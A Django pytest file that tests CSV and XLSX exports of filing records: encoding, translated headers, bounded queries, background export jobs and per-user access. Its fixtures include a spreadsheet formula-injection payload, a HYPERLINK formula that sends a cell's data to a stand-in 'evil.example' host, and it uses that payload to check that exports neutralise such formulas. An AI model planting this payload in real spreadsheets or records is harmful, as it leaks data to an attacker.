"""The review workspace's exports: CSV that Excel opens in Chinese, a real XLSX workbook, no formula
smuggled in through an organization's name, and one query whatever the number of filings."""

import csv
import io
from datetime import date, datetime
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import time_machine
from django.conf import settings
from django.db import connection
from django.db.models import Case, IntegerField, Value, When
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation

from filings.documents import spreadsheets
from filings.models import Filing, Jurisdiction
from filings.review import exports
from filings.review.review_scope import filings_visible_to
from tests.factories import OrganizationFactory, UserFactory

pytestmark = pytest.mark.django_db
SHANGHAI = ZoneInfo("Asia/Shanghai")
UTC = ZoneInfo("UTC")
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点这里")'
ENGLISH_HEADERS = [
    "Receipt number",
    "Filing number",
    "Organization",
    "Unified social credit code",
    "City",
    "Kind",
    "Status",
    "Submitted at",
    "Review due",
    "Filed late",
    "Warnings",
    "Office",
]


@pytest.fixture(autouse=True)
def _frozen_today():
    with time_machine.travel(datetime(2026, 3, 15, 10, 0, tzinfo=SHANGHAI), tick=False):
        yield


@pytest.fixture
def filings():
    """A filed Shenzhen filing (submitted at 00:30 China time, 16:30 UTC the day before), a
    Nanshan one with a hostile name, and a Xiantao one routed to Hubei; plus a draft."""
    shenzhen = OrganizationFactory(name="深圳市甲科技有限公司", address_division="440300")
    hostile = OrganizationFactory(name=HOSTILE, address_division="440305")
    xiantao = OrganizationFactory(name="@SUM(1+1)", address_division="429004")
    regime = settings.FILING_REGIME
    office = Jurisdiction.objects.get(code="440300")
    made = [
        Filing.objects.create(
            organization=shenzhen,
            kind=Filing.Kind.INITIAL,
            status=Filing.Status.FILED,
            regime=regime,
            office=office,
            receipt_number="FR20260301000001",
            filing_number="网信人脸备440300202600001号",
            submitted_at=datetime(2026, 3, 1, 16, 30, tzinfo=UTC),
            review_due=date(2026, 3, 20),
            late=True,
            warning_count=2,
        ),
        Filing.objects.create(
            organization=hostile,
            kind=Filing.Kind.INITIAL,
            status=Filing.Status.SUBMITTED,
            regime=regime,
            office=office,
            receipt_number="FR20260302000002",
            submitted_at=datetime(2026, 3, 2, 1, 0, tzinfo=UTC),
            review_due=date(2026, 3, 21),
        ),
        Filing.objects.create(
            organization=xiantao,
            kind=Filing.Kind.INITIAL,
            status=Filing.Status.UNDER_REVIEW,
            regime=regime,
            office=Jurisdiction.objects.get(code="420000"),
            receipt_number="FR20260303000003",
            submitted_at=datetime(2026, 3, 3, 1, 0, tzinfo=UTC),
        ),
    ]
    Filing.objects.create(
        organization=shenzhen,
        kind=Filing.Kind.INITIAL,
        status=Filing.Status.DRAFT,
        regime=regime,
        office=office,
    )
    return made


def scoped():
    root = UserFactory(email="root@cac.example", is_staff=True, is_superuser=True)
    return filings_visible_to(root).order_by("receipt_number")


def body(response) -> bytes:
    """The bytes of a response, streamed (the CSV) or not (the workbook)."""
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def csv_table(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"))))


# --- CSV -----------------------------------------------------------------------------------------


def test_csv_has_a_bom_english_headers_and_one_row_per_visible_filing(filings):
    with translation.override("en"):
        response = exports.csv_response(scoped(), "filings-20260315-1000.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="filings-20260315-1000.csv"'
    assert response.streaming  # the first rows leave before the last are read
    content = body(response)
    assert content.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert table[0] == ENGLISH_HEADERS
    assert len(table) == 4  # the draft is not there
    assert table[1] == [
        "FR20260301000001",
        "网信人脸备440300202600001号",
        "深圳市甲科技有限公司",
        filings[0].organization.uscc,
        "Shenzhen",
        "Initial filing",
        "Filed",
        "2026-03-02 00:30",  # China time
        "2026-03-20",
        "Yes",
        "2",
        "Shenzhen Cyberspace Office",
    ]
    assert table[2][4] == "Shenzhen"  # Nanshan district, city of Shenzhen
    assert table[2][9] == "No"
    assert table[3][4] == "Xiantao"
    assert table[3][8] == ""  # no review due date
    assert table[3][11] == "Hubei Cyberspace Office"


def test_csv_in_chinese_round_trips_the_names(filings):
    response = exports.csv_response(scoped(), "备案导出.csv")
    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''%E5%A4%87%E6%A1%88%E5%AF%BC%E5%87%BA.csv"
    )
    table = csv_table(response)
    assert table[1][2] == "深圳市甲科技有限公司"
    assert table[1][4] == "深圳市"
    assert table[1][9] == "是"
    assert table[1][11] == "深圳市网信办"
    assert table[1][5:7] == ["首次备案", "已备案"]
    assert table[0][0] == "回执编号"  # headers reuse the fields' translated names


def test_csv_neutralises_formulas(filings):
    table = csv_table(exports.csv_response(scoped(), "f.csv"))
    assert table[2][2] == "'" + HOSTILE
    assert table[3][2] == "'@SUM(1+1)"
    for row in table:
        for cell in row:
            assert not cell.startswith(spreadsheets.FORMULA_PREFIXES)


@pytest.mark.parametrize(
    ("value", "guarded"),
    [
        ("=1+1", True),
        ("+1", True),
        ("-1", True),
        ("@A1", True),
        ("\t=1", True),
        ("\r=1", True),
        ("深圳=1", False),
        ("1-1", False),
        ("", False),
    ],
)
def test_which_text_is_guarded(value, guarded):
    assert spreadsheets.is_formula_like(value) is guarded
    assert spreadsheets.csv_cell(value) == ("'" + value if guarded else value)


# --- XLSX ----------------------------------------------------------------------------------------


def test_xlsx_is_a_workbook_with_a_frozen_header_and_real_dates(filings):
    with translation.override("en"):
        response = exports.xlsx_response(scoped(), "filings.xlsx")
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="filings.xlsx"'
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == "Filings"
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["C"].width == exports.WIDTHS["organization"]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == ENGLISH_HEADERS
    assert sheet["A1"].font.b
    assert len(rows) == 4
    assert list(rows[1]) == [
        "FR20260301000001",
        "网信人脸备440300202600001号",
        "深圳市甲科技有限公司",
        filings[0].organization.uscc,
        "Shenzhen",
        "Initial filing",
        "Filed",
        datetime(2026, 3, 2, 0, 30),  # China time, a real date
        datetime(2026, 3, 20),
        "Yes",
        2,
        "Shenzhen Cyberspace Office",
    ]
    assert sheet["H2"].is_date
    assert sheet["H2"].number_format == spreadsheets.DATETIME_FORMAT
    assert sheet["I2"].number_format == spreadsheets.DATE_FORMAT
    assert rows[3][8] is None


def test_xlsx_writes_formula_like_names_as_text(filings):
    content = exports.xlsx_response(scoped(), "f.xlsx").content
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    for coordinate, expected in (("C3", HOSTILE), ("C4", "@SUM(1+1)")):
        cell = sheet[coordinate]
        assert cell.value == expected  # the exact name, without an apostrophe
        assert cell.data_type == "s"  # text, never a formula
        assert cell.quotePrefix  # and Excel keeps it text when edited
    assert sheet["C2"].value == "深圳市甲科技有限公司"
    assert not sheet["C2"].quotePrefix
    assert b"<f>" not in content  # no formula element anywhere in the file
    for row in sheet.iter_rows():
        assert all(cell.data_type != "f" for cell in row)


def test_xlsx_drops_control_characters_instead_of_failing(filings):
    organization = filings[0].organization
    # NUL cannot be stored in PostgreSQL (and forms reject it); the other C0 controls can.
    organization.name = "深圳\x07甲公司\x1b"
    organization.save()
    content = exports.xlsx_response(scoped(), "f.xlsx").content
    assert openpyxl.load_workbook(io.BytesIO(content)).active["C2"].value == "深圳甲公司"


# --- Bounded queries -----------------------------------------------------------------------------


def many(n: int, start: int) -> None:
    organizations = [
        OrganizationFactory(address_division=code) for code in ("440300", "440100", "429004")
    ]
    office = Jurisdiction.objects.get(code="440300")
    Filing.objects.bulk_create(
        Filing(
            organization=organizations[i % 3],
            kind=Filing.Kind.INITIAL,
            status=Filing.Status.SUBMITTED,
            regime=settings.FILING_REGIME,
            office=office,
            receipt_number=f"FR-B{start + i:08d}",
            submitted_at=datetime(2026, 3, 1, 9, tzinfo=SHANGHAI),
            review_due=date(2026, 3, 20),
            data={"organization": {"name": "x" * 1000}},  # never read by the export
        )
        for i in range(n)
    )


def queries_of(export, filings_queryset) -> tuple[int, bytes]:
    with CaptureQueriesContext(connection) as queries:
        content = body(export(filings_queryset, "f"))
    return len(queries), content


@pytest.mark.parametrize("export", [exports.csv_response, exports.xlsx_response])
def test_exports_run_one_query_with_5_or_500_filings(export, administrator):
    root = administrator
    many(5, 0)
    with_5, _content = queries_of(export, filings_visible_to(root))
    many(495, 5)
    with_500, content = queries_of(export, filings_visible_to(root))
    assert with_5 == with_500 == 1
    if export is exports.csv_response:
        assert len(content.decode("utf-8-sig").splitlines()) == 501
    else:
        assert openpyxl.load_workbook(io.BytesIO(content)).active.max_row == 501


def test_exports_keep_the_changelist_order_and_annotations(filings, administrator):
    """The admin passes its changelist queryset: annotated with an urgency and ordered by it."""
    urgency = Case(
        When(status=Filing.Status.UNDER_REVIEW, then=Value(0)),
        When(status=Filing.Status.SUBMITTED, then=Value(1)),
        default=Value(2),
        output_field=IntegerField(),
    )
    root = administrator
    queryset = filings_visible_to(root, Filing.objects.annotate(urgency=urgency)).order_by(
        "urgency", "pk"
    )
    table = csv_table(exports.csv_response(queryset, "f.csv"))
    assert [row[0] for row in table[1:]] == [
        "FR20260303000003",
        "FR20260302000002",
        "FR20260301000001",
    ]


# --- Large Excel exports, written by a worker ----------------------------------------------------


@pytest.fixture
def small_direct_limit(monkeypatch):
    """Two rows are "large" here: the job path without making thousands of filings."""
    monkeypatch.setattr(exports, "DIRECT_XLSX_LIMIT", 1)


def reviewer_client(client, code="440300", email="sz@cac.example"):
    from tests.factories import login_with_second_factor, reviewer_of

    login_with_second_factor(client, reviewer_of(code, email))
    return client


def test_a_large_excel_export_is_written_by_a_worker_and_downloaded_when_ready(
    client, filings, small_direct_limit, django_capture_on_commit_callbacks
):
    from filings.models import ExportJob

    reviewer = reviewer_client(client)
    # The whole queue of the office: the queue opens on "needs action", without the filed one.
    url = reverse("admin:filings_filing_export_xlsx") + "?view=all&office=440300"
    with django_capture_on_commit_callbacks(execute=True):
        response = reviewer.get(url)
    job = ExportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("admin:filings_filing_export_job", args=[job.pk])
    assert job.status == ExportJob.Status.READY
    assert job.query == "view=all&office=440300"

    page = reviewer.get(response["Location"]).content.decode()
    assert "工作簿已生成" in page
    assert 'http-equiv="refresh"' not in page  # nothing left to wait for
    download = reviewer.get(reverse("admin:filings_filing_export_job_download", args=[job.pk]))
    assert download["Content-Disposition"].startswith('attachment; filename="filings-')
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(download.streaming_content))).active
    receipts = [row[0].value for row in sheet.iter_rows(min_row=2)]
    # The same rows as the queue shows with that filter.
    expected = set(filings_visible_to(job.user).values_list("receipt_number", flat=True))
    assert len(expected) > 1
    assert set(receipts) == expected
    assert len(receipts) == job.rows_total == job.rows_done


def test_a_waiting_export_shows_its_progress_and_refreshes(client, filings, small_direct_limit):
    from filings.models import ExportJob

    reviewer = reviewer_client(client)
    # Its message is never run here.
    reviewer.get(reverse("admin:filings_filing_export_xlsx") + "?view=all")
    job = ExportJob.objects.get()
    ExportJob.objects.filter(pk=job.pk).update(status="running", rows_done=1, rows_total=4)
    page = reviewer.get(reverse("admin:filings_filing_export_job", args=[job.pk])).content.decode()
    assert 'http-equiv="refresh"' in page
    assert "已写入 1 / 4 行（25%）" in page
    download = reverse("admin:filings_filing_export_job_download", args=[job.pk])
    assert reviewer.get(download).status_code == 404


def test_an_export_is_its_requesters_alone(client, filings, small_direct_limit):
    from filings.models import ExportJob

    reviewer_client(client).get(reverse("admin:filings_filing_export_xlsx") + "?view=all")
    job = ExportJob.objects.get()
    client.logout()
    other = reviewer_client(client, "440300", "sz2@cac.example")
    for name in ("admin:filings_filing_export_job", "admin:filings_filing_export_job_download"):
        assert other.get(reverse(name, args=[job.pk])).status_code == 404


def test_writing_a_workbook_keeps_memory_flat(tmp_path, administrator):
    """openpyxl's write-only mode and a chunked read: past one chunk of rows (2,000), the peak
    does not grow with the rows."""
    import tracemalloc

    root = administrator

    def peak_for(n, start):
        many(n, start)
        tracemalloc.start()
        exports.write_workbook(filings_visible_to(root), tmp_path / f"{n}.xlsx")
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return peak

    small = peak_for(2_200, 0)
    large = peak_for(6_600, 2_200)  # 8,800 rows in all, four times as many
    assert large < 2 * small, (small, large)
